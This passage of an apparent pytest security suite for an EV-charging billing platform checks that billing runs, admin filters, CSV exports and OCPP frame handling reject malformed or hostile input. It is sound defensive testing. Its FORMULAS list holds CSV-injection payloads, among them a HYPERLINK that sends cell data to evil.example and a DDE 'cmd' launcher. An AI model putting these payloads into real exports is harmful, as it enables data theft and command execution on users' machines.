    for n, driver in enumerate(drivers):
        account(driver, BillingAccount.PaymentMode.POSTPAID)
        charged_session(connector=connector, driver=driver, started_at=datetime(2026, 11, 5 + n, 9, tzinfo=UTC))
    november = date(2026, 11, 1)
    this_month = timezone.localdate(timezone.now(), ZoneInfo("Europe/Berlin")).replace(day=1)
    tries = [
        lambda: billing_run(period=november, now=datetime(2026, 11, 29, 10, tzinfo=UTC)),
        lambda: billing_run(period=november, now=datetime(2026, 11, 30, 22, 30, tzinfo=UTC)),
        lambda: operator_billing_run(operator=operator, period=november,
                                     now=datetime(2026, 11, 30, 22, 59, tzinfo=UTC)),
        lambda: billing_run(period=this_month),
        lambda: call_command("billing_run", period=f"{this_month:%Y-%m}", no_progress=True, stdout=StringIO()),
        lambda: billing_run_task.delay(f"{this_month:%Y-%m}").get(),
    ]
    statements = Invoice.objects.filter(kind=Invoice.Kind.STATEMENT)
    refused = 0
    for attempt in tries:
        try:
            attempt()
        except (PeriodNotEndedError, CommandError):
            refused += not statements.exists()
    for driver in drivers[:2]:  # 22:00-23:00 UTC: 23:00-24:00 on 30 November in Berlin
        charged_session(connector=connector, driver=driver, started_at=datetime(2026, 11, 30, 21, tzinfo=UTC))
    december_1st = datetime(2026, 11, 30, 23, 30, tzinfo=UTC)  # 00:30 in Berlin
    billing_run(period=november, now=december_1st)
    billing_run(period=november, now=december_1st)

    lines = Counter(InvoiceLine.objects.filter(invoice__kind=Invoice.Kind.STATEMENT, invoice__period_start=november)
                    .values_list("session_id", flat=True))
    sessions = ChargingSession.objects.filter(driver__in=drivers).values_list("pk", flat=True)
    lost = [f"session {pk} on no statement" for pk in sessions if not lines[pk]]
    per_account = Counter(statements.filter(period_start=november).values_list("driver_id", flat=True))
    doubled = [f"session {pk} on {count} statement lines" for pk, count in lines.items() if count > 1] + [
        f"driver {pk}: {count} November statements" for pk, count in per_account.items() if count > 1]
    tally = attack_table.record(9, "billing run of a month not ended", tried=len(tries), refused=refused, lost=lost,
                                doubled=doubled)
    tally.check()


# --- 10. Bad input: admin ids, CSV cells, OCPP frames ----------------------------------------------------------

T0 = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)


@pytest.mark.django_db
def test_an_admin_id_filter_past_two_to_the_63_lists_nothing(attack_table, admin_client, operator, connector, driver,
                                                             no_delivery):
    """Every admin changelist is asked for id = 99999999999999999999; the four that count by PostgreSQL's estimate
    also for id__exact = -that and id__gt = that. Refused: an empty list, the admin's "?e=1" redirect or a 400,
    never a 500. Lost: a row missing from an estimated-count changelist afterwards; doubled: a row listed for an
    id no row can have."""
    account(driver)
    charge = charged_session(connector=connector, driver=driver, started_at=T0)
    MeterSample.objects.create(session=charge.session, taken_at=T0 + timedelta(minutes=30), energy_wh=D(5000))
    invoicing.receipt_issue_for_session(session_id=charge.session_id, now=T0 + timedelta(hours=2))
    admin_client.raise_request_exception = False
    tried, refused, lost, doubled = 0, 0, [], []
    for model, model_admin in admin.site._registry.items():
        url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
        estimated = model_admin.paginator is EstimatedCountPaginator
        for query in [{"id": HUGE}, *([{"id__exact": -HUGE}, {"id__gt": HUGE}] if estimated else [])]:
            response = admin_client.get(url, query)
            tried += 1
            changelist = response.context.get("cl") if response.context else None
            listed = changelist.result_count if changelist is not None else 0
            refused += response.status_code in (200, 302, 400) and not listed
            if listed:
                doubled.append(f"{url}?{query}: {listed} rows")
        if estimated:
            listed = admin_client.get(url).context["cl"].result_count
            if listed < model._default_manager.count():
                lost.append(f"{url}: {listed} of {model._default_manager.count()} rows listed")
    tally = attack_table.record(10, "admin id filter past 2^63", tried=tried, refused=refused, lost=lost,
                                doubled=doubled)
    tally.check()


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Refund")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3",
            "@SUM(1+1)", "\t=1+1", "\r=1+1", "=1+1", "+49 30 1234", "-@A1"]


def csv_rows(client, export: str) -> list[dict]:
    response = client.get(reverse(f"admin_analytics_{export}_csv"), {"start": "2026-03-01", "end": "2026-03-31"})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.django_db
def test_driver_text_in_accounting_csvs_never_starts_a_formula(attack_table, client, operator, connector, no_delivery):
    """Ten drivers name themselves with spreadsheet formulas (username and full name), charge and get a receipt;
    staff export the sessions and invoices CSVs. Each cell holding their text is a try. Refused: the cell is the
    text led by an apostrophe. Lost: a row or the text missing; doubled: a row listed twice."""
    receipts = {}
    for n, text in enumerate(FORMULAS):
        driver = factories.DriverFactory(operator=operator, username=text)
        driver.driver_profile.full_name = text
        driver.driver_profile.save()
        account(driver)
        charge = charged_session(connector=connector, driver=driver, started_at=T0 + timedelta(hours=n))
        receipts[text] = invoicing.receipt_issue_for_session(session_id=charge.session_id, now=T0 + timedelta(days=1))
    client.force_login(factories.OperatorStaffFactory(operator=operator))
    sessions, invoices = csv_rows(client, "sessions"), csv_rows(client, "invoices")
    tried, refused, lost, doubled = 0, 0, [], []
    for text, receipt in receipts.items():
        rows = {"sessions": [r for r in sessions if r["session_id"] == str(receipt.session_id)],
                "invoices": [r for r in invoices if r["number"] == receipt.number]}
        for export, column in (("sessions", "driver"), ("invoices", "driver"), ("invoices", "buyer_name")):
            tried += 1
            cells = [row[column] for row in rows[export]]
            refused += cells[:1] == [f"'{text}"]
            if not cells or cells[0].lstrip("'") != text:
                lost.append(f"{export}.{column} of {text!r}: {cells}")
            if len(cells) > 1:
                doubled.append(f"{export}.{column} of {text!r}: {len(cells)} rows")
    tally = attack_table.record(10, "CSV formula injection (accounting exports)", tried=tried, refused=refused,
                                lost=lost, doubled=doubled)
    tally.check()


DEEP = 5000


def nested(levels: int) -> str:
    return "[" * levels + "]" * levels


async def frames_one_by_one(identity: str, version: str, frames: list) -> list[tuple[list | None, bool]]:
    """Each frame on a connection of its own to one gateway, then a Heartbeat on the same connection: the answer
    to the frame (None when there was none) and whether the connection still answered."""
    outcomes = []
    async with gateway() as gw:
        for frame in frames:
            async with raw_socket(gw, identity, version=version) as ws:
                try:
                    answer = await exchange(ws, frame)
                except (ConnectionClosed, TimeoutError):
                    outcomes.append((None, False))
                    continue
                try:
                    alive = (await exchange(ws, [2, "still-there", "Heartbeat", {}]))[:2] == [3, "still-there"]
                except (ConnectionClosed, TimeoutError):
                    alive = False
                outcomes.append((answer, alive))
    return outcomes


def call_error(answer: list | None) -> str | None:
    return answer[2] if answer and answer[0] == 4 else None


def rows_written() -> dict[str, int]:
    return {"sessions": ChargingSession.objects.count(), "samples": MeterSample.objects.count(),
            "status events": ConnectorStatusEvent.objects.count(), "connectors": Connector.objects.count(),
            "payments": Payment.objects.count()}


def test_deeply_nested_ocpp_frames_get_a_call_error(attack_table, connector):
    """Frames nested 5,000 levels deep (in a payload, as the frame itself, as an object) or carrying a 5,000-digit
    number, twice each in OCPP 1.6 and 2.0.1. Refused: a CallError (FormationViolation, FormatViolation or
    RpcFrameworkError) and the connection still answers. Lost: a connection dropped; doubled: a row written."""
    frames = [f'[2, "deep", "DataTransfer", {{"vendorId": "acme", "data": {nested(DEEP)}}}]', nested(DEEP),
              '[2, "deep-object", "Heartbeat", ' + '{"a": ' * DEEP + "1" + "}" * DEEP + "]",
              '[2, "long-number", "Heartbeat", {"a": ' + "7" * 5000 + "}]"] * 2
    before = rows_written()
    outcomes = [outcome for version in ("1.6", "2.0.1")
                for outcome in asyncio.run(frames_one_by_one(connector.station.ocpp_identity, version, frames))]
    refused = sum(call_error(answer) in ("FormationViolation", "FormatViolation", "RpcFrameworkError") and alive
                  for answer, alive in outcomes)
    lost = [f"frame {n}: connection dropped" for n, (_, alive) in enumerate(outcomes) if not alive]
    doubled = [f"{what}: {before[what]} -> {count}" for what, count in rows_written().items() if count != before[what]]
    tally = attack_table.record(10, "OCPP frame nested 5,000 deep", tried=len(outcomes), refused=refused, lost=lost,
                                doubled=doubled)
    tally.check()


OCPP_T0 = "2026-03-02T08:00:00+00:00"


def test_connector_numbers_out_of_range_are_property_constraint_violations(attack_table, operator, connector,
                                                                         stripe_server):
    """StatusNotification, StartTransaction, TransactionEvent and MeterValues name connectors and EVSEs past
    2^63, past 32767 or below their range, from a pay-as-you-go driver's token (OCPP 1.6 and 2.0.1). Refused: a
    PropertyConstraintViolation and the connection still answers. Lost: a connection dropped; doubled: a row
    written (connector, status event, session, payment) or a PaymentIntent at localstripe."""
    driver = payg_driver(operator)
    uid = factories.IdTokenFactory(operator=operator, driver=driver).uid
    status = {"errorCode": "NoError", "status": "Available", "timestamp": OCPP_T0}
    start = {"idTag": uid, "meterStart": 0, "timestamp": OCPP_T0}
    reading = [{"timestamp": OCPP_T0, "sampledValue": [{"value": "1"}]}]
    v16 = [*([2, f"s{n}", "StatusNotification", {**status, "connectorId": n}] for n in (HUGE, 40000, -1)),
           *([2, f"t{n}", "StartTransaction", {**start, "connectorId": n}] for n in (HUGE, 40000, 0, -3)),
           *([2, f"m{n}", "MeterValues", {"connectorId": n, "meterValue": reading}] for n in (HUGE, -1))]
    status201 = {"timestamp": OCPP_T0, "connectorStatus": "Available", "connectorId": 1}
    started = {"eventType": "Started", "timestamp": OCPP_T0, "triggerReason": "Authorized", "seqNo": 0,
               "transactionInfo": {"transactionId": "tx-1"}, "idToken": {"idToken": uid, "type": "ISO14443"}}
    v201 = [*([2, f"s{n}", "StatusNotification", {**status201, "evseId": n}] for n in (HUGE, 40000, -1)),
            [2, "s-connector", "StatusNotification", {**status201, "evseId": 1, "connectorId": HUGE}],
            *([2, f"t{n}", "TransactionEvent", {**started, "evse": {"id": n}}] for n in (HUGE, 40000, 0)),
            [2, "t-connector", "TransactionEvent", {**started, "evse": {"id": 1, "connectorId": -1}}],
            [2, "m-evse", "MeterValues", {"evseId": HUGE, "meterValue": [
                {"timestamp": OCPP_T0, "sampledValue": [{"value": 1.0}]}]}]]
    before = rows_written()
    identity = connector.station.ocpp_identity
    outcomes = asyncio.run(frames_one_by_one(identity, "1.6", v16)) + asyncio.run(
        frames_one_by_one(identity, "2.0.1", v201))
    refused = sum(call_error(answer) == "PropertyConstraintViolation" and alive for answer, alive in outcomes)
    lost = [f"frame {n}: connection dropped" for n, (_, alive) in enumerate(outcomes) if not alive]
    doubled = [f"{what}: {before[what]} -> {count}" for what, count in rows_written().items() if count != before[what]]
    tally = attack_table.record(10, "OCPP connector or EVSE id out of range", tried=len(outcomes), refused=refused,
                                lost=lost, doubled=doubled + untracked_intents([driver]))
    tally.check()


def test_a_start_transaction_that_fails_validation_places_no_hold(attack_table, operator, connector, stripe_server):
    """StartTransactions from a pay-as-you-go driver's token that fail validation (connector 0 or 40000, a meter
    start below zero or past its range, no timestamp), twice each, and one older than the session a valid start
    then opened. Refused: a PropertyConstraintViolation, no session and no hold. Lost: the valid start without its
    hold; doubled: a second session or hold, or a second PaymentIntent at localstripe."""
    driver = payg_driver(operator)
    uid = factories.IdTokenFactory(operator=operator, driver=driver).uid
    start = {"connectorId": 1, "idTag": uid, "meterStart": 0, "timestamp": OCPP_T0}
    bad = [{"connectorId": 0}, {"connectorId": 40000}, {"meterStart": -5}, {"meterStart": 10**15},
           {"timestamp": "yesterday"}] * 2
    frames = [*([2, f"bad-{n}", "StartTransaction", {**start, **change}] for n, change in enumerate(bad)),
              [2, "valid", "StartTransaction", {**start, "meterStart": 500, "timestamp": "2026-03-02T09:00:00+00:00"}],
              [2, "older", "StartTransaction", start]]  # older than the running session
    outcomes = asyncio.run(frames_one_by_one(connector.station.ocpp_identity, "1.6", frames))
    valid = outcomes.pop(len(bad))
    refused = sum(call_error(answer) == "PropertyConstraintViolation" and alive for answer, alive in outcomes)
    sessions = list(ChargingSession.objects.all())
    holds = list(Payment.objects.filter(kind=Payment.Kind.SESSION_HOLD))
    held = [p for p in holds if sessions and p.session_id == sessions[0].pk and p.status == Payment.Status.AUTHORIZED]
    lost = [] if held and not call_error(valid[0]) else [
        f"valid start answered {valid[0]}; sessions {len(sessions)}, holds {[(p.session_id, p.status) for p in holds]}"]
    doubled = [f"{len(sessions)} sessions, {len(holds)} holds"] if len(sessions) > 1 or len(holds) > 1 else []
    tally = attack_table.record(10, "OCPP StartTransaction failing validation (hold)", tried=len(outcomes),
                                refused=refused, lost=lost, doubled=doubled + untracked_intents([driver]))
    tally.check()
